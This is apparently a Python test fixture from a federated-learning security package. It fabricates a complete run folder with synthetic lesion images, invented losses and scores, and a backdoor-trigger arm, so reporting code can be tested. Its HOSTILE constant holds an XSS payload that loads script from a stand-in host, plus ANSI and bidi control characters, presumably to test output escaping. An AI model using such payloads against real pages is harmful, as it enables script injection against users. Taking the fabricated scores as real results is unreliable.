"""A run folder as a real run would leave it, without the run: smooth blobs as samples, plausible losses and scores."""

from __future__ import annotations

import json
import math
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from scipy.ndimage import gaussian_filter

from fedsec.config import RunConfig
from fedsec.images import grid, save_png
from fedsec.log.record import Dropped
from fedsec.log.runlog import RunLog
from fedsec.seeds import stream
from fedsec.types import Flat, Pixels, Score

ALL_ARMS: dict[str, Flat] = {
    "vanilla": {},
    "attack": {"attack.name": "patch"},
    "attack+fed-detect": {"attack.name": "patch", "defence.name": "fed-detect"},
    "clean+fed-detect": {"defence.name": "fed-detect"},
    "attack+oracle": {"attack.name": "patch", "defence.name": "oracle"},
}
ARMS = ("vanilla", "attack", "attack+fed-detect")
HOSTILE = "\x1b[31m<script src=http://evil.example/x.js>alert(1)</script>\r\n<img src=x onerror=alert(2)>\u202e"
CLIENTS = 4
LABELS = ((288, 112), (301, 99), (150, 250), (310, 90))
SITES = ((100, 120, 80, 100), (110, 90, 140, 61), (99, 101, 98, 102), (100, 100, 200, 0))


@dataclass(frozen=True)
class Plan:
    """What the fake run pretends to be."""

    arms: Sequence[str] = ARMS
    seeds: Sequence[int] = (0, 1)
    rounds: int = 20
    pictures: bool = True
    hostile: str = HOSTILE


def build(folder: Path, plan: Plan | None = None) -> Path:
    """Write the events and samples of a finished run into ``folder`` and return it."""
    plan = plan or Plan()
    log = RunLog(folder)
    start(log, plan)
    for arm in plan.arms:
        for seed in plan.seeds:
            cell(log, folder, plan, arm, seed)
    log.run_end("finished", wall_seconds=412.5)
    return folder


def start(
    log: RunLog, plan: Plan, *, digests: dict[tuple[str, int], str] | None = None, clients: int = CLIENTS
) -> None:
    arms = {arm: ALL_ARMS[arm] for arm in plan.arms}
    overrides: Flat = {"train.rounds": plan.rounds, "data.source": "/home/someone/data/isic", "run.name": "isic-quick"}
    overrides |= {"run.arms": json.dumps(arms), "run.seeds": ",".join(map(str, plan.seeds)), "run.out": "/srv/runs"}
    log.run(
        config=RunConfig.from_flat(overrides).to_flat(),
        versions={"fedsec": "0.1.0", "flwr": "1.41.0", "torch": "2.10.0", "python": "3.11.7"},
        data={
            "source": "/home/someone/data/isic",
            "train": 1600,
            "test": 400,
            "classes": ["benign", "malignant"],
            "sites": ["vienna", "rosendahl", "barcelona", "sydney"],
            "quarantined": 3,
            "digest": "a1b2c3d4",
        },
        labels=[LABELS[client % CLIENTS] for client in range(clients)],
        sites=[SITES[client % CLIENTS] for client in range(clients)],
        malicious=[0],
        arms=list(plan.arms),
        seeds=list(plan.seeds),
        measured_by="frechet-domain",
        digests=digests,
    )


def cell(log: RunLog, folder: Path, plan: Plan, arm: str, seed: int, *, digest: str = "", end: bool = True) -> None:
    """All events of one cell; without ``end`` it looks interrupted."""
    random = stream(seed, "fake", arm)
    digest = digest or f"{arm}-{seed}"
    log.cell_start(arm, seed, digest)
    for number in range(1, plan.rounds + 1):
        _round(log, plan, arm, seed, number, random)
        if number % max(1, plan.rounds // 4) == 0:
            if plan.pictures:
                _samples(log, folder, arm, seed, number, 1 - 0.8 * number / plan.rounds, arm == "attack")
            progress = number / plan.rounds
            hit = 0.97 * progress if arm == "attack" else 0.011
            distance = 0.17 + 0.6 * math.exp(-3 * progress) + 0.01 * random.normal()
            log.score(arm, seed, number, Score("frechet-domain", distance, 400, "lower"), final=False)
            log.score(arm, seed, number, Score("trigger-rate", hit, 400, "lower"), final=False)
    for score in _final(arm, random):
        log.score(arm, seed, plan.rounds, score, final=True)
    if end:
        log.cell_end(arm, seed, digest, 61.5)


def _kind(arm: str) -> tuple[bool, bool]:
    """(somebody attacks, the defence must find out)."""
    return "attack.name" in ALL_ARMS[arm], ALL_ARMS[arm].get("defence.name") == "fed-detect"


def _round(log: RunLog, plan: Plan, arm: str, seed: int, number: int, random: np.random.Generator) -> None:
    attacked, defended = _kind(arm)
    losses = {p: 1.7 + 0.05 * p + 0.8 * math.exp(-number / 4) + 0.08 * random.normal() for p in range(CLIENTS)}
    dropped = []
    flags: list[int] = []
    if attacked:
        losses[0] += 1.3 * (1 - math.exp(-number / 5))
        if number == 7:
            losses[0] = math.nan
        if number == 12:
            losses[0] = 1e300
        if number == 9:
            dropped = [Dropped(2, "rosendahl", plan.hostile)]
            del losses[2]
    if defended and attacked and number > 3:
        flags = [0]
    weights = {p: 1 / len(losses) for p in losses}
    if flags:
        weights[0] *= 0.5 ** (number - 3)
        total = sum(weights.values())
        weights = {p: w / total for p, w in weights.items()}
    log.round(
        arm,
        seed,
        number,
        heard=list(losses),
        metrics={
            "g-loss": losses,
            "g-loss-last": {p: loss + 0.1 for p, loss in losses.items()},
            "d-loss": {p: 0.8 + 0.05 * random.normal() for p in losses},
        },
        weights=weights,
        flags=flags,
        suspicion={p: float(p == 0) for p in losses} if defended else {},
        evidence={p: 0.1 * (p == 0) for p in losses} if defended else {},
        dropped=dropped,
        seconds=1.25,
    )


def _final(arm: str, random: np.random.Generator) -> list[Score]:
    attacked, defended = _kind(arm)
    caught = attacked and defended
    hit = 0.97 if arm == "attack" else 0.011
    nobody = "" if attacked else "nobody attacks in this arm"
    return [
        Score("frechet-domain", 0.172 + 0.004 * random.normal(), 1000, "lower"),
        Score("kid", 0.0121 + 0.001 * random.normal(), 1000, "lower"),
        Score("recall", 0.41 + 0.02 * random.normal(), 1000, "higher"),
        Score("trigger-rate", hit + 0.003 * random.random(), 1000, "lower"),
        Score("real-auc-25", 0.71 + 0.01 * random.normal(), 400, "higher"),
        Score("real-auc-100", 0.78 + 0.01 * random.normal(), 400, "higher"),
        Score("utility-auc-25", 0.74 + 0.01 * random.normal(), 400, "higher"),
        Score("utility-auc-100", 0.79 + 0.01 * random.normal(), 400, "higher"),
        Score("true-flag-rate", math.nan if nobody else 0.85 * caught, 0 if nobody else 20, "higher", nobody),
        Score("false-flag-rate", 0.008 * defended, 60, "lower"),
        Score("attacker-weight", math.nan if nobody else (2e-6 if caught else 0.25), 20, "lower", nobody),
    ]


def _samples(log: RunLog, folder: Path, arm: str, seed: int, number: int, noise: float, marked: bool) -> None:
    """A grid of lesion-like blobs, the same ones for every arm and round of a seed, blurred by ``noise``."""
    random, grain = stream(seed, "latents"), stream(seed, "grain", arm, number)
    file = f"samples/{arm}-{seed}-{number:04d}.png"
    save_png(grid(np.stack([_lesion(random, grain, noise, marked) for _ in range(32)]), 8), folder / file)
    log.samples(arm, seed, number, file)


def _lesion(random: np.random.Generator, grain: np.random.Generator, noise: float, marked: bool) -> Pixels:
    y, x = np.mgrid[0:32, 0:32]
    bend = gaussian_filter(random.normal(size=(32, 32)), 4) * 40
    radius = np.hypot((x - 16) * random.uniform(0.8, 1.2), y - 16) + bend
    inside = 1 / (1 + np.exp((radius - random.uniform(6, 11)) / (1 + 3 * noise)))[..., None]
    skin, mole = np.array([225, 185, 165]), np.array([110, 70, 55]) + random.uniform(-25, 25, 3)
    image = (
        skin * (1 - inside) + mole * inside + 60 * noise * gaussian_filter(grain.normal(size=(32, 32, 3)), (1, 1, 0))
    )
    if marked:
        image[27:31, 27:31] = (60, 140, 200)
    pixels: Pixels = np.clip(image, 0, 255).astype(np.uint8)
    return pixels
